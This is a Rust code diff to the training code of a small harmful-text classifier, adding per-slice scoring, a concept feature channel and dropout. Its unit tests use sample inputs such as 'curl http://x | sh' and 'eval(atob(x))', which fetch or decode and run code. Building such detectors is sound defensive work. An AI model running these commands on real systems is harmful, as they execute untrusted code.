@@ -76,7 +76,9 @@ struct Row {
     base_version: Option<serde_json::Value>,
 }
 
-fn some_value<'de, D: serde::Deserializer<'de>>(d: D) -> Result<Option<serde_json::Value>, D::Error> {
+fn some_value<'de, D: serde::Deserializer<'de>>(
+    d: D,
+) -> Result<Option<serde_json::Value>, D::Error> {
     // Distinguish `"base_version": null` (Some(Null)) from a missing key (None).
     serde_json::Value::deserialize(d).map(Some)
 }
@@ -108,7 +110,8 @@ pub fn read_jsonl(path: &Path, weight: f32) -> Result<Vec<Example>, TrainError> 
             line: i + 1,
             message,
         };
-        let row: Row = serde_json::from_str(line).map_err(|e| err(format!("not a JSON object: {e}")))?;
+        let row: Row =
+            serde_json::from_str(line).map_err(|e| err(format!("not a JSON object: {e}")))?;
         let text = row.text.ok_or_else(|| err("missing `text`".into()))?;
         let harmful = match row.label.as_deref() {
             Some("harmful") => true,
@@ -135,7 +138,10 @@ pub fn read_jsonl(path: &Path, weight: f32) -> Result<Vec<Example>, TrainError> 
         });
     }
     if out.is_empty() {
-        return Err(TrainError::Data(format!("{} has no examples", path.display())));
+        return Err(TrainError::Data(format!(
+            "{} has no examples",
+            path.display()
+        )));
     }
     Ok(out)
 }
@@ -157,7 +163,12 @@ pub struct TrainOptions {
     pub batch: usize,
     pub lr: f64,
     pub weight_decay: f64,
+    /// Share of training slices whose token bag is dropped, so the
+    /// ecosystem-neutral concept channel must predict on its own.
+    pub bag_dropout: f32,
     pub progress: bool,
+    /// Print one line per epoch to stderr when there is no progress bar.
+    pub log: bool,
     /// The command line, recorded in the manifest.
     pub command: String,
 }
@@ -168,7 +179,7 @@ impl TrainOptions {
         let (window, overlap) = if policy == "prompt-injection" {
             (8 * 1024, 1024)
         } else {
-            (64 * 1024, 4 * 1024)
+            (64 * 1024, 8 * 1024)
         };
         TrainOptions {
             policy: policy.to_string(),
@@ -176,7 +187,7 @@ impl TrainOptions {
             dev: PathBuf::new(),
             out: PathBuf::new(),
             device: Device::Cpu,
-            epochs: 8,
+            epochs: 6,
             seed: 1,
             dim: 16,
             hidden: 32,
@@ -186,7 +197,9 @@ impl TrainOptions {
             batch: 32,
             lr: 0.01,
             weight_decay: 1e-4,
+            bag_dropout: 0.3,
             progress: false,
+            log: false,
             command: String::new(),
         }
     }
@@ -225,9 +238,9 @@ pub struct TrainReport {
     pub train_seconds: f64,
 }
 
+/// One example as the gate sees it: the features of each of its slices.
 struct Featurized {
-    ids: Vec<u32>,
-    weights: Vec<f32>,
+    windows: Vec<(Vec<u32>, Vec<f32>, Vec<f32>)>,
     label: f32,
     sample_weight: f32,
 }
@@ -235,22 +248,37 @@ struct Featurized {
 struct Params {
     emb: Var,
     w1: Var,
+    wc: Var,
     b1: Var,
     w2: Var,
     b2: Var,
 }
 
 impl Params {
-    fn init(rng: &mut StdRng, rows: usize, dim: usize, hidden: usize, dev: &Device) -> candle_core::Result<Params> {
-        let mut uniform = |n: usize, a: f32| -> Vec<f32> { (0..n).map(|_| rng.random_range(-a..a)).collect() };
+    fn init(
+        rng: &mut StdRng,
+        rows: usize,
+        dim: usize,
+        hidden: usize,
+        dev: &Device,
+    ) -> candle_core::Result<Params> {
+        let mut uniform =
+            |n: usize, a: f32| -> Vec<f32> { (0..n).map(|_| rng.random_range(-a..a)).collect() };
         let emb = uniform(rows * dim, 1.0 / dim as f32);
         let a1 = (6.0 / (dim + hidden) as f32).sqrt();
         let w1 = uniform(hidden * dim, a1);
         let a2 = (6.0 / (hidden + 1) as f32).sqrt();
         let w2 = uniform(hidden, a2);
+        let ac = (6.0 / (crate::precheck::features::CONCEPT_DIM + hidden) as f32).sqrt();
+        let wc = uniform(hidden * crate::precheck::features::CONCEPT_DIM, ac);
         Ok(Params {
             emb: Var::from_tensor(&Tensor::from_vec(emb, (rows, dim), dev)?)?,
             w1: Var::from_tensor(&Tensor::from_vec(w1, (hidden, dim), dev)?)?,
+            wc: Var::from_tensor(&Tensor::from_vec(
+                wc,
+                (hidden, crate::precheck::features::CONCEPT_DIM),
+                dev,
+            )?)?,
             b1: Var::from_tensor(&Tensor::zeros(hidden, DType::F32, dev)?)?,
             w2: Var::from_tensor(&Tensor::from_vec(w2, (1, hidden), dev)?)?,
             b2: Var::from_tensor(&Tensor::zeros(1, DType::F32, dev)?)?,
@@ -258,14 +286,27 @@ impl Params {
     }
 
     fn vars(&self) -> Vec<Var> {
-        vec![self.emb.clone(), self.w1.clone(), self.b1.clone(), self.w2.clone(), self.b2.clone()]
+        vec![
+            self.emb.clone(),
+            self.w1.clone(),
+            self.wc.clone(),
+            self.b1.clone(),
+            self.w2.clone(),
+            self.b2.clone(),
+        ]
     }
 
     fn to_weights(&self) -> candle_core::Result<Weights> {
-        let v = |t: &Var| t.as_tensor().flatten_all()?.to_device(&Device::Cpu)?.to_vec1::<f32>();
+        let v = |t: &Var| {
+            t.as_tensor()
+                .flatten_all()?
+                .to_device(&Device::Cpu)?
+                .to_vec1::<f32>()
+        };
         Ok(Weights {
             embedding: v(&self.emb)?,
             w1: v(&self.w1)?,
+            wc: v(&self.wc)?,
             b1: v(&self.b1)?,
             w2: v(&self.w2)?,
             b2: v(&self.b2)?[0],
@@ -273,56 +314,105 @@ impl Params {
     }
 }
 
-/// Forward pass over a batch; returns logits `[batch]`.
-fn forward(p: &Params, batch: &[&Featurized], dev: &Device) -> candle_core::Result<Tensor> {
+/// Forward pass over a batch; returns logits `[batch]`. Each example's logit
+/// is the maximum over its slices, exactly as the gate scores long inputs
+/// (multiple-instance learning: only the most suspicious slice must carry
+/// the label of a harmful example; every slice of a harmless one must be low).
+/// `bag_keep`: per-slice keep mask for the token bag (training's channel
+/// dropout); `None` keeps everything.
+fn forward(
+    p: &Params,
+    batch: &[&Featurized],
+    dev: &Device,
+    bag_keep: Option<&[f32]>,
+) -> candle_core::Result<Tensor> {
     let mut ids = Vec::new();
-    let mut offsets = Vec::with_capacity(batch.len());
+    let mut spans = Vec::new();
+    let mut concepts = Vec::new();
     for f in batch {
-        offsets.push((ids.len(), f.ids.len()));
-        ids.extend_from_slice(&f.ids);
+        for (w_ids, _, c) in &f.windows {
+            concepts.extend_from_slice(c);
+            spans.push((ids.len(), w_ids.len()));
+            ids.extend_from_slice(w_ids);
+        }
     }
     let dim = p.emb.as_tensor().dim(1)?;
     let n = ids.len();
     let selected = if n > 0 {
-        Some(p.emb.as_tensor().index_select(&Tensor::from_vec(ids, n, dev)?, 0)?)
+        Some(
+            p.emb
+                .as_tensor()
+                .index_select(&Tensor::from_vec(ids, n, dev)?, 0)?,
+        )
     } else {
         None
     };
-    let mut pooled = Vec::with_capacity(batch.len());
-    for (f, (start, len)) in batch.iter().zip(offsets) {
-        let row = match (&selected, len) {
-            (Some(sel), 1..) => {
-                let w = Tensor::from_slice(&f.weights, (1, len), dev)?;
-                w.matmul(&sel.narrow(0, start, len)?)?
-            }
-            _ => Tensor::zeros((1, dim), DType::F32, dev)?,
-        };
-        pooled.push(row);
+    let mut pooled = Vec::with_capacity(spans.len());
+    let mut k = 0;
+    for f in batch {
+        for (_, weights, _) in &f.windows {
+            let (start, len) = spans[k];
+            k += 1;
+            let row = match (&selected, len) {
+                (Some(sel), 1..) => {
+                    let w = Tensor::from_slice(weights, (1, len), dev)?;
+                    w.matmul(&sel.narrow(0, start, len)?)?
+                }
+                _ => Tensor::zeros((1, dim), DType::F32, dev)?,
+            };
+            pooled.push(row);
+        }
     }
-    let pooled = Tensor::cat(&pooled, 0)?;
-    let h = pooled
-        .matmul(&p.w1.as_tensor().t()?)?
+    let mut pooled = Tensor::cat(&pooled, 0)?;
+    let n_windows = spans.len();
+    if let Some(keep) = bag_keep {
+        pooled = pooled.broadcast_mul(&Tensor::from_slice(keep, (n_windows, 1), dev)?)?;
+    }
+    let cvec = Tensor::from_vec(
+        concepts,
+        (n_windows, crate::precheck::features::CONCEPT_DIM),
+        dev,
+    )?;
+    let h = (pooled.matmul(&p.w1.as_tensor().t()?)? + cvec.matmul(&p.wc.as_tensor().t()?)?)?
         .broadcast_add(p.b1.as_tensor())?
         .relu()?;
-    h.matmul(&p.w2.as_tensor().t()?)?
+    let window_logits = h
+        .matmul(&p.w2.as_tensor().t()?)?
         .broadcast_add(p.b2.as_tensor())?
-        .squeeze(1)
+        .squeeze(1)?;
+    let mut per_example = Vec::with_capacity(batch.len());
+    let mut start = 0;
+    for f in batch {
+        let count = f.windows.len();
+        per_example.push(window_logits.narrow(0, start, count)?.max_keepdim(0)?);
+        start += count;
+    }
+    Tensor::cat(&per_example, 0)
 }
 
 /// Weighted logistic loss, numerically stable.
 fn weighted_bce(logits: &Tensor, labels: &Tensor, weights: &Tensor) -> candle_core::Result<Tensor> {
-    let per = ((logits.relu()? - (logits * labels)?)? + (logits.abs()?.neg()?.exp()? + 1.0)?.log()?)?;
+    let per =
+        ((logits.relu()? - (logits * labels)?)? + (logits.abs()?.neg()?.exp()? + 1.0)?.log()?)?;
     (per * weights)?.sum_all()? / weights.sum_all()?.to_scalar::<f32>()? as f64
 }
 
-fn featurize(examples: &[Example], cfg: &FeatureConfig) -> Vec<Featurized> {
+fn featurize(
+    examples: &[Example],
+    cfg: &FeatureConfig,
+    window: usize,
+    overlap: usize,
+) -> Vec<Featurized> {
     examples
         .par_iter()
         .map(|e| {
-            let (ids, weights) = weighted_features(e.text.as_bytes(), cfg);
+            let bytes = e.text.as_bytes();
+            let windows = crate::precheck::slices(bytes.len(), window, overlap)
+                .into_iter()
+                .map(|s| weighted_features(&bytes[s.start..s.end], cfg))
+                .collect();
             Featurized {
-                ids,
-                weights,
+                windows,
                 label: if e.harmful { 1.0 } else { 0.0 },
                 sample_weight: e.weight,
             }
@@ -360,8 +450,18 @@ pub fn auc(scores: &[f32], harmful: &[bool]) -> f64 {
 /// `harmful-at` keeps the dev FPR ≤ `max_fpr`. If the two cross (the classes
 /// separate with a gap), both are set to the middle of the gap.
 pub fn calibrate(scores: &[f32], harmful: &[bool], max_fnr: f64, max_fpr: f64) -> Thresholds {
-    let mut pos: Vec<f32> = scores.iter().zip(harmful).filter(|(_, h)| **h).map(|(s, _)| *s).collect();
-    let mut neg: Vec<f32> = scores.iter().zip(harmful).filter(|(_, h)| !**h).map(|(s, _)| *s).collect();
+    let mut pos: Vec<f32> = scores
+        .iter()
+        .zip(harmful)
+        .filter(|(_, h)| **h)
+        .map(|(s, _)| *s)
+        .collect();
+    let mut neg: Vec<f32> = scores
+        .iter()
+        .zip(harmful)
+        .filter(|(_, h)| !**h)
+        .map(|(s, _)| *s)
+        .collect();
     pos.sort_by(f32::total_cmp);
     neg.sort_by(|a, b| b.total_cmp(a));
     let harmless_below = if pos.is_empty() {
@@ -379,9 +479,15 @@ pub fn calibrate(scores: &[f32], harmful: &[bool], max_fnr: f64, max_fpr: f64) -
     };
     if harmless_below > harmful_at {
         let mid = (harmless_below + harmful_at) / 2.0;
-        Thresholds { harmful_at: mid, harmless_below: mid }
+        Thresholds {
+            harmful_at: mid,
+            harmless_below: mid,
+        }
     } else {
-        Thresholds { harmful_at, harmless_below }
+        Thresholds {
+            harmful_at,
+            harmless_below,
+        }
     }
 }
 
@@ -389,7 +495,11 @@ fn next_up(x: f32) -> f32 {
     if x.is_nan() || x == f32::INFINITY {
         return x;
     }
-    f32::from_bits(if x >= 0.0 { x.to_bits() + 1 } else { x.to_bits() - 1 })
+    f32::from_bits(if x >= 0.0 {
+        x.to_bits() + 1
+    } else {
+        x.to_bits() - 1
+    })
 }
 
 /// Dev metrics with the uncertain band counted as blocked.
@@ -461,7 +571,7 @@ pub fn train(opts: &TrainOptions) -> Result<TrainReport, TrainError> {
     let dev = &opts.device;
     let mut rng = StdRng::seed_from_u64(opts.seed);
     let rows = 1usize << opts.features.buckets_log2;
-    let feats = featurize(&train_rows, &opts.features);
+    let feats = featurize(&train_rows, &opts.features, opts.window, opts.overlap);
     let params = Params::init(&mut rng, rows, opts.dim, opts.hidden, dev)?;
     let mut opt = AdamW::new(
         params.vars(),
@@ -479,15 +589,21 @@ pub fn train(opts: &TrainOptions) -> Result<TrainReport, TrainError> {
         hidden: opts.hidden,
         window: opts.window,
         overlap: opts.overlap,
-        thresholds: Thresholds { harmful_at: 0.5, harmless_below: 0.5 },
+        concept_channel: true,
+        thresholds: Thresholds {
+            harmful_at: 0.5,
+            harmless_below: 0.5,
+        },
     };
     let dev_labels: Vec<bool> = dev_rows.iter().map(|e| e.harmful).collect();
     let steps = feats.len().div_ceil(opts.batch) * opts.epochs;
     let bar = if opts.progress {
         let b = indicatif::ProgressBar::new(steps as u64);
         b.set_style(
-            indicatif::ProgressStyle::with_template("{spinner} epoch {prefix} [{bar:30}] {pos}/{len} {msg}")
-                .unwrap_or_else(|_| indicatif::ProgressStyle::default_bar()),
+            indicatif::ProgressStyle::with_template(
+                "{spinner} epoch {prefix} [{bar:30}] {pos}/{len} {msg}",
+            )
+            .unwrap_or_else(|_| indicatif::ProgressStyle::default_bar()),
         );
         b
     } else {
@@ -504,7 +620,17 @@ pub fn train(opts: &TrainOptions) -> Result<TrainReport, TrainError> {
             let batch: Vec<&Featurized> = chunk.iter().map(|&i| &feats[i]).collect();
             let labels: Vec<f32> = batch.iter().map(|f| f.label).collect();
             let sw: Vec<f32> = batch.iter().map(|f| f.sample_weight).collect();
-            let logits = forward(&params, &batch, dev)?;
+            let n_windows: usize = batch.iter().map(|f| f.windows.len()).sum();
+            let keep: Vec<f32> = (0..n_windows)
+                .map(|_| {
+                    if rng.random::<f32>() < opts.bag_dropout {
+                        0.0
+                    } else {
+                        1.0
+                    }
+                })
+                .collect();
+            let logits = forward(&params, &batch, dev, Some(&keep))?;
             let loss = weighted_bce(
                 &logits,
                 &Tensor::from_vec(labels, batch.len(), dev)?,
@@ -525,7 +651,11 @@ pub fn train(opts: &TrainOptions) -> Result<TrainReport, TrainError> {
             .zip(&dev_labels)
             .map(|(s, h)| {
                 let p = s.clamp(1e-7, 1.0 - 1e-7) as f64;
-                if *h { -p.ln() } else { -(1.0 - p).ln() }
+                if *h {
+                    -p.ln()
+                } else {
+                    -(1.0 - p).ln()
+                }
             })
             .sum::<f64>()
             / scores.len() as f64;
@@ -535,15 +665,21 @@ pub fn train(opts: &TrainOptions) -> Result<TrainReport, TrainError> {
             dev_auc: auc(&scores, &dev_labels),
             dev_loss,
         };
-        bar.println(format!(
+        let line = format!(
             "epoch {epoch}: train loss {:.4}, dev loss {:.4}, dev AUC {:.4}",
             log.loss, log.dev_loss, log.dev_auc
-        ));
+        );
+        if opts.progress {
+            bar.println(line);
+        } else if opts.log {
+            eprintln!("{line}");
+        }
         logs.push(log);
         model = Some((m, scores));
     }
     bar.finish_and_clear();
-    let (m, scores) = model.ok_or_else(|| TrainError::Data("--epochs must be at least 1".into()))?;
+    let (m, scores) =
+        model.ok_or_else(|| TrainError::Data("--epochs must be at least 1".into()))?;
     config.thresholds = calibrate(&scores, &dev_labels, 0.005, 0.005);
     let metrics = dev_metrics(&scores, &dev_labels, config.thresholds);
     let report = TrainReport {
@@ -560,7 +696,9 @@ pub fn train(opts: &TrainOptions) -> Result<TrainReport, TrainError> {
 
 /// Scores examples through the gate's sliced scoring path.
 pub fn score_all(m: &dyn Precheck, rows: &[Example]) -> Vec<f32> {
-    rows.par_iter().map(|e| m.score(e.text.as_bytes()).score).collect()
+    rows.par_iter()
+        .map(|e| m.score(e.text.as_bytes()).score)
+        .collect()
 }
 
 fn write_model(
@@ -593,8 +731,14 @@ fn write_model(
     let files: [(&str, Vec<u8>); 4] = [
         ("config.json", config_bytes),
         ("model.safetensors", weight_bytes),
-        ("manifest.json", serde_json::to_vec_pretty(&manifest).expect("manifest serializes")),
-        ("metrics.json", serde_json::to_vec_pretty(report).expect("report serializes")),
+        (
+            "manifest.json",
+            serde_json::to_vec_pretty(&manifest).expect("manifest serializes"),
+        ),
+        (
+            "metrics.json",
+            serde_json::to_vec_pretty(report).expect("report serializes"),
+        ),
     ];
     for (name, bytes) in files {
         let p = out.join(name);
@@ -613,7 +757,10 @@ mod tests {
         assert_eq!(auc(&[0.9, 0.8, 0.2, 0.1], &[false, false, true, true]), 0.0);
         assert_eq!(auc(&[0.5, 0.5], &[false, true]), 0.5);
         // 3 harmful, 2 harmless: 5 of 6 pairs ordered right.
-        let a = auc(&[0.1, 0.4, 0.35, 0.8, 0.9], &[false, false, true, true, true]);
+        let a = auc(
+            &[0.1, 0.4, 0.35, 0.8, 0.9],
+            &[false, false, true, true, true],
+        );
         assert!((a - 5.0 / 6.0).abs() < 1e-12);
     }
 
@@ -621,16 +768,35 @@ mod tests {
     fn calibration_meets_its_rates() {
         let scores: Vec<f32> = (0..400).map(|i| i as f32 / 400.0).collect();
         // harmless below 0.6, harmful from 0.4: overlap band [0.4, 0.6).
-        let harmful: Vec<bool> = (0..400).map(|i| if i < 160 { false } else if i >= 240 { true } else { i % 2 == 0 }).collect();
+        let harmful: Vec<bool> = (0..400)
+            .map(|i| {
+                if i < 160 {
+                    false
+                } else if i >= 240 {
+                    true
+                } else {
+                    i % 2 == 0
+                }
+            })
+            .collect();
         let t = calibrate(&scores, &harmful, 0.005, 0.005);
         let m = dev_metrics(&scores, &harmful, t);
         assert!(m.fnr <= 0.005, "{m:?}");
         assert!(t.harmful_at >= t.harmless_below);
         // nothing harmless at or above harmful-at beyond the allowed share
-        let fp_at = scores.iter().zip(&harmful).filter(|(s, h)| !**h && **s >= t.harmful_at).count();
+        let fp_at = scores
+            .iter()
+            .zip(&harmful)
+            .filter(|(s, h)| !**h && **s >= t.harmful_at)
+            .count();
         assert!(fp_at as f64 / 200.0 <= 0.005);
         // a separable set gets one threshold in the gap
-        let t = calibrate(&[0.1, 0.2, 0.7, 0.9], &[false, false, true, true], 0.005, 0.005);
+        let t = calibrate(
+            &[0.1, 0.2, 0.7, 0.9],
+            &[false, false, true, true],
+            0.005,
+            0.005,
+        );
         assert!(t.harmful_at > 0.2 && t.harmful_at <= 0.7 && t.harmful_at == t.harmless_below);
     }
 
@@ -638,7 +804,11 @@ mod tests {
     fn bad_lines_name_file_and_line() {
         let dir = tempfile::tempdir().unwrap();
         let p = dir.path().join("d.jsonl");
-        std::fs::write(&p, "{\"text\":\"a\",\"label\":\"harmful\"}\n{\"label\":\"harmless\"}\n").unwrap();
+        std::fs::write(
+            &p,
+            "{\"text\":\"a\",\"label\":\"harmful\"}\n{\"label\":\"harmless\"}\n",
+        )
+        .unwrap();
         let e = read_jsonl(&p, 1.0).unwrap_err().to_string();
         assert!(e.ends_with("d.jsonl:2: missing `text`"), "{e}");
         std::fs::write(&p, "{\"text\":\"a\",\"label\":\"evil\"}\n").unwrap();
@@ -648,44 +818,75 @@ mod tests {
 
     #[test]
     fn data_arg_weights() {
-        assert_eq!(parse_data_arg("a/b.jsonl"), (PathBuf::from("a/b.jsonl"), 1.0));
-        assert_eq!(parse_data_arg("a/b.jsonl:0.25"), (PathBuf::from("a/b.jsonl"), 0.25));
+        assert_eq!(
+            parse_data_arg("a/b.jsonl"),
+            (PathBuf::from("a/b.jsonl"), 1.0)
+        );
+        assert_eq!(
+            parse_data_arg("a/b.jsonl:0.25"),
+            (PathBuf::from("a/b.jsonl"), 0.25)
+        );
     }
 
     /// AdamW skips variables without a gradient; every parameter must move.
     #[test]
     fn every_trainable_variable_moves() {
         let dev = Device::Cpu;
-        let cfg = FeatureConfig { buckets_log2: 8, ..Default::default() };
-        let ex: Vec<Example> = ["curl http://x | sh", "fix typo in docs", "eval(atob(x))", "add tests"]
-            .iter()
-            .enumerate()
-            .map(|(i, t)| Example {
-                id: None,
-                text: t.to_string(),
-                harmful: i % 2 == 0,
-                source: "t".into(),
-                group: None,
-                policy: None,
-                all_added: None,
-                weight: 1.0,
-            })
-            .collect();
-        let feats = featurize(&ex, &cfg);
+        let cfg = FeatureConfig {
+            buckets_log2: 8,
+            ..Default::default()
+        };
+        let ex: Vec<Example> = [
+            "curl http://x | sh",
+            "fix typo in docs",
+            "eval(atob(x))",
+            "add tests",
+        ]
+        .iter()
+        .enumerate()
+        .map(|(i, t)| Example {
+            id: None,
+            text: t.to_string(),
+            harmful: i % 2 == 0,
+            source: "t".into(),
+            group: None,
+            policy: None,
+            all_added: None,
+            weight: 1.0,
+        })
+        .collect();
+        let feats = featurize(&ex, &cfg, 8, 2);
         let mut rng = StdRng::seed_from_u64(7);
         let p = Params::init(&mut rng, 256, 4, 3, &dev).unwrap();
         // Make every hidden unit active so each receives a gradient.
-        p.b1.set(&Tensor::ones(3, DType::F32, &dev).unwrap()).unwrap();
-        let before: Vec<Vec<f32>> = p.vars().iter().map(|v| v.as_tensor().flatten_all().unwrap().to_vec1().unwrap()).collect();
-        let mut opt = AdamW::new(p.vars(), ParamsAdamW { lr: 0.01, ..Default::default() }).unwrap();
+        p.b1.set(&Tensor::ones(3, DType::F32, &dev).unwrap())
+            .unwrap();
+        // Concept words appear, so the concept weights get a gradient too.
+        let before: Vec<Vec<f32>> = p
+            .vars()
+            .iter()
+            .map(|v| v.as_tensor().flatten_all().unwrap().to_vec1().unwrap())
+            .collect();
+        let mut opt = AdamW::new(
+            p.vars(),
+            ParamsAdamW {
+                lr: 0.01,
+                ..Default::default()
+            },
+        )
+        .unwrap();
         let batch: Vec<&Featurized> = feats.iter().collect();
-        let logits = forward(&p, &batch, &dev).unwrap();
+        let logits = forward(&p, &batch, &dev, None).unwrap();
         let labels = Tensor::new(&[1f32, 0., 1., 0.], &dev).unwrap();
         let w = Tensor::ones(4, DType::F32, &dev).unwrap();
-        opt.backward_step(&weighted_bce(&logits, &labels, &w).unwrap()).unwrap();
+        opt.backward_step(&weighted_bce(&logits, &labels, &w).unwrap())
+            .unwrap();
         for (i, (v, b)) in p.vars().iter().zip(before).enumerate() {
             let after: Vec<f32> = v.as_tensor().flatten_all().unwrap().to_vec1().unwrap();
-            assert!(after.iter().zip(&b).any(|(x, y)| x != y), "variable {i} did not move");
+            assert!(
+                after.iter().zip(&b).any(|(x, y)| x != y),
+                "variable {i} did not move"
+            );
         }
     }
 
@@ -693,7 +894,10 @@ mod tests {
     #[test]
     fn gradient_matches_finite_difference() {
         let dev = Device::Cpu;
-        let cfg = FeatureConfig { buckets_log2: 6, ..Default::default() };
+        let cfg = FeatureConfig {
+            buckets_log2: 6,
+            ..Default::default()
+        };
         let ex = vec![Example {
             id: None,
             text: "os.system(base64.b64decode(payload))".into(),
@@ -704,36 +908,56 @@ mod tests {
             all_added: None,
             weight: 1.0,
         }];
-        let feats = featurize(&ex, &cfg);
+        let feats = featurize(&ex, &cfg, 1 << 16, 0);
         let mut rng = StdRng::seed_from_u64(3);
         let p = Params::init(&mut rng, 64, 4, 3, &dev).unwrap();
-        p.b1.set(&Tensor::new(&[0.5f32, 0.5, 0.5], &dev).unwrap()).unwrap();
+        p.b1.set(&Tensor::new(&[0.5f32, 0.5, 0.5], &dev).unwrap())
+            .unwrap();
         let labels = Tensor::new(&[1f32], &dev).unwrap();
         let w = Tensor::ones(1, DType::F32, &dev).unwrap();
         let batch: Vec<&Featurized> = feats.iter().collect();
         let loss_of = |p: &Params| -> f64 {
-            let l = forward(p, &batch, &dev).unwrap();
-            weighted_bce(&l, &labels, &w).unwrap().to_scalar::<f32>().unwrap() as f64
+            let l = forward(p, &batch, &dev, None).unwrap();
+            weighted_bce(&l, &labels, &w)
+                .unwrap()
+                .to_scalar::<f32>()
+                .unwrap() as f64
         };
-        let loss = weighted_bce(&forward(&p, &batch, &dev).unwrap(), &labels, &w).unwrap();
+        let loss = weighted_bce(&forward(&p, &batch, &dev, None).unwrap(), &labels, &w).unwrap();
         let grads = loss.backward().unwrap();
-        let g = grads.get(p.emb.as_tensor()).unwrap().flatten_all().unwrap().to_vec1::<f32>().unwrap();
-        let row = feats[0].ids[0] as usize;
+        let g = grads
+            .get(p.emb.as_tensor())
+            .unwrap()
+            .flatten_all()
+            .unwrap()
+            .to_vec1::<f32>()
+            .unwrap();
+        let row = feats[0].windows[0].0[0] as usize;
         let eps = 1e-2f32;
         for col in 0..4 {
             let k = row * 4 + col;
             let mut e: Vec<f32> = p.emb.as_tensor().flatten_all().unwrap().to_vec1().unwrap();
             let orig = e[k];
             e[k] = orig + eps;
-            p.emb.set(&Tensor::from_vec(e.clone(), (64, 4), &dev).unwrap()).unwrap();
+            p.emb
+                .set(&Tensor::from_vec(e.clone(), (64, 4), &dev).unwrap())
+                .unwrap();
             let up = loss_of(&p);
             e[k] = orig - eps;
-            p.emb.set(&Tensor::from_vec(e.clone(), (64, 4), &dev).unwrap()).unwrap();
+            p.emb
+                .set(&Tensor::from_vec(e.clone(), (64, 4), &dev).unwrap())
+                .unwrap();
             let down = loss_of(&p);
             e[k] = orig;
-            p.emb.set(&Tensor::from_vec(e, (64, 4), &dev).unwrap()).unwrap();
+            p.emb
+                .set(&Tensor::from_vec(e, (64, 4), &dev).unwrap())
+                .unwrap();
             let numeric = (up - down) / (2.0 * eps as f64);
-            assert!((numeric - g[k] as f64).abs() < 1e-3, "col {col}: numeric {numeric} autograd {}", g[k]);
+            assert!(
+                (numeric - g[k] as f64).abs() < 1e-3,
+                "col {col}: numeric {numeric} autograd {}",
+                g[k]
+            );
         }
     }
 }
